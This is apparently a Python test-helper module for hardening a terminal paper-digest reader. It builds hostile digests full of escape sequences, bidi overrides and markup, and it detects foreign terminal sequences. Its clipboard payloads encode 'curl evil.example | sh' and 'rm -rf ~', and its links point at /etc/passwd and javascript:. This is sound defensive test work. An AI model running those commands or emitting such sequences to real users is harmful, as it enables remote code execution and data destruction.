"""Helpers for the hardening tests: hostile text, a check of the bytes a terminal receives, a process runner
that measures peak memory, a fast scratch folder, and notifications recorded as the user sees them."""

from __future__ import annotations

import base64
import os
import re
import shutil
import subprocess
import sys
import tempfile
import time
from dataclasses import dataclass
from pathlib import Path

REPO = Path(__file__).resolve().parent.parent

# -- hostile text --------------------------------------------------------------------------------------------
OSC52 = "\x1b]52;c;" + base64.b64encode(b"curl evil.example | sh").decode() + "\x07"  # sets the clipboard
OSC52_ST = "\x1b]52;p;" + base64.b64encode(b"rm -rf ~").decode() + "\x1b\\"
TITLE_BEL = "\x1b]0;PWNED-TITLE\x07"  # sets the window title
TITLE_ST = "\x1b]2;PWNED-TITLE2\x1b\\"
CSI = "\x1b[2J\x1b[31;1m\x1b[?1049l"  # clear, red, leave the alternate screen
C1 = "\x9b2J\x9d0;PWNED-C1\x9c"  # the same, as 8-bit C1 controls
CONTROLS = "\x07\x08\x0b\x0c\x7f\x85"
BIDI = "\u202eevil\u202c\u2066x\u2069"
HOSTILE = OSC52 + OSC52_ST + TITLE_BEL + TITLE_ST + CSI + C1 + CONTROLS + BIDI
MARKUP = ["[b]bold[/b]", "[/]", "[@click=app.quit]click[/]", "[link=https://evil.example]link[/link]",
          "[red on white]red[/]"]


def hostile_digest(date: str, ids: list[str]) -> str:
    """A day whose titles, authors, section names and texts all carry escape sequences, control characters,
    bidi overrides and Rich/Textual markup (our own text)."""
    lines = [f"## Daily Papers ({date})", ""]
    for n, arxiv_id in enumerate(ids):
        markup = MARKUP[n % len(MARKUP)]
        lines += [
            f"### [Hostile {n} {HOSTILE}{markup} title](https://arxiv.org/abs/{arxiv_id})",
            "",
            f"![]({TITLE_BEL}https://example.org/{arxiv_id}.png)",
            "",
            f"Vote: {100 - n}",
            "",
            f"Authors: Mallory {HOSTILE}, {markup}, Eve",
            "",
            f"- **What's New{TITLE_ST}**: 요약 {HOSTILE} {markup} [a link](https://example.org/{OSC52}x) 끝.",
            f"- **Technical {CSI}Details**: `{OSC52}` **{C1}굵게** {' '.join(MARKUP)} [local](file:///etc/passwd) "
            "[script](javascript:alert(1))",
            "",
        ]
    return "\n".join(lines)


# -- what a terminal receives --------------------------------------------------------------------------------
# Textual's own output: CSI sequences, OSC 8 hyperlinks, OSC 22 pointer shapes. Anything else is foreign.
_CSI = r"\x1b\[[0-?]*[ -/]*[@-~]"
_OSC8 = r"\x1b\]8;[^\x00-\x1f\x7f-\x9f]*?;(?P<url>[^\x00-\x1f\x7f-\x9f]*?)(?:\x07|\x1b\\)"
_OSC22 = r"\x1b\]22;[a-z-]*(?:\x07|\x1b\\)"
_OSC52 = r"\x1b\]52;[a-z]*;(?P<payload>[A-Za-z0-9+/=]*)(?:\x07|\x1b\\)"
_KNOWN = re.compile(f"{_CSI}|{_OSC8}|{_OSC22}")
_FOREIGN = re.compile("[\x00-\x09\x0b\x0c\x0e-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2066-\u2069]")


def terminal_problems(output: bytes | str, *, allow_copy: bool = False) -> list[str]:
    """What in a terminal's input did not come from Textual itself: an OSC 52 (clipboard) or OSC 0/1/2
    (window title), any other escape sequence, a C0/C1 control character but CR and LF, a bidi override.
    With allow_copy, OSC 52 sequences pass (see copied_payloads) - the user pressed a copy key."""
    text = output.decode("utf-8", errors="replace") if isinstance(output, bytes) else output
    problems = []
    if "\x1b]0;" in text or "\x1b]1;" in text or "\x1b]2;" in text:
        problems.append("a window-title sequence (OSC 0/1/2)")
    if not allow_copy and "\x1b]52" in text:
        problems.append("a clipboard sequence (OSC 52)")
    rest = _KNOWN.sub("", text)
    if allow_copy:
        rest = re.sub(_OSC52, "", rest)
    for m in _FOREIGN.finditer(rest):
        problems.append(f"{m.group()!r} at {m.start()}: {rest[max(0, m.start() - 30): m.start() + 30]!r}")
        if len(problems) > 10:
            break
    for m in re.finditer(_OSC8, text):
        if not re.match(r"https?://", m["url"]) and m["url"]:
            problems.append(f"a hyperlink to {m['url']!r}")
    return problems


def copied_payloads(output: bytes | str) -> list[str]:
    text = output.decode("utf-8", errors="replace") if isinstance(output, bytes) else output
    return [base64.b64decode(m["payload"]).decode("utf-8") for m in re.finditer(_OSC52, text)]


def screen_dump(app) -> tuple[str, str]:
    """(the screen as text, the bytes Textual's compositor writes for it), for a Pilot app."""
    import io

    from rich.console import Console

    width, height = app.size
    console = Console(width=width, height=height, file=io.StringIO(), force_terminal=True,
                      color_system="truecolor", record=True, legacy_windows=False, safe_box=False)
    console.print(app.screen._compositor.render_update(full=True, screen_stack=app._background_screens))
    raw = console.file.getvalue()
    return console.export_text(clear=False), raw


class NotificationLog:
    """Every notification as Textual received it (message, title, markup), for the whole test."""

    def __init__(self, monkeypatch) -> None:
        from textual.app import App

        self.seen: list[tuple[str, str, bool]] = []
        original = App.notify
        log = self

        def notify(app, message, *, title="", severity="information", timeout=None, markup=True):
            log.seen.append((str(message), str(title), markup))
            return original(app, message, title=title, severity=severity, timeout=timeout, markup=markup)

        monkeypatch.setattr(App, "notify", notify)

    @property
    def messages(self) -> list[str]:
        return [m for m, _, _ in self.seen]


# -- processes -------------------------------------------------------------------------------------------------
@dataclass
class Run:
    code: int
    out: str
    err: str
    peak_mb: float
    seconds: float


def run_measured(args: list[str], *, env: dict[str, str] | None = None, timeout: float = 120.0,
                 stdin: bytes | None = None) -> Run:
    """Run a process to its end; its exit code, output, peak resident memory (its own, by wait4) and time.
    A process still running after `timeout` seconds is killed and the test fails: a hang."""
    peak_file = None
    if args[0] == sys.executable:  # measured from inside: VmHWM of the program alone (see measure_peak.py)
        fd, peak_file = tempfile.mkstemp(prefix="peak-")
        os.close(fd)
        args = [sys.executable, str(Path(__file__).with_name("measure_peak.py")), peak_file, *args[1:]]
    with tempfile.TemporaryFile() as out, tempfile.TemporaryFile() as err:
        start = time.monotonic()
        proc = subprocess.Popen(args, stdout=out, stderr=err, stdin=subprocess.DEVNULL, env=env, cwd=REPO)
        while True:
            pid, status, usage = os.wait4(proc.pid, os.WNOHANG)
            if pid:
                break
            if time.monotonic() - start > timeout:
                proc.kill()
                os.wait4(proc.pid, 0)
                raise AssertionError(f"{args[:4]} still running after {timeout} s (a hang)")
            time.sleep(0.01)
        seconds = time.monotonic() - start
        proc.returncode = os.waitstatus_to_exitcode(status)
        out.seek(0)
        err.seek(0)
        peak_kb = usage.ru_maxrss
        if peak_file is not None:
            try:
                peak_kb = int(Path(peak_file).read_text() or peak_kb)
            finally:
                os.unlink(peak_file)
        return Run(proc.returncode, out.read().decode("utf-8", "replace"), err.read().decode("utf-8", "replace"),
                   peak_kb / 1024, seconds)


def reader_command(*args: str) -> list[str]:
    return [sys.executable, "-m", "reader", *args]


def probe_command(*paths: str | os.PathLike[str], keys: str = "") -> list[str]:
    """The reader, headless, over PATHs (tests/tui_probe.py): prints what it showed as JSON."""
    return [sys.executable, str(Path(__file__).with_name("tui_probe.py")), "--keys", keys, *map(str, paths)]


def fast_scratch(tmp_path: Path) -> Path:
    """A scratch folder on a memory file system where there is one (/dev/shm): 100,000 files take about
    1 s to make there and a minute on this machine's disk. Else tmp_path. Removed by the caller."""
    shm = Path("/dev/shm")
    if shm.is_dir() and os.access(shm, os.W_OK):
        return Path(tempfile.mkdtemp(prefix="daily-papers-test-", dir=shm))
    path = tmp_path / "scratch"
    path.mkdir()
    return path


def remove(path: Path) -> None:
    shutil.rmtree(path, ignore_errors=True)
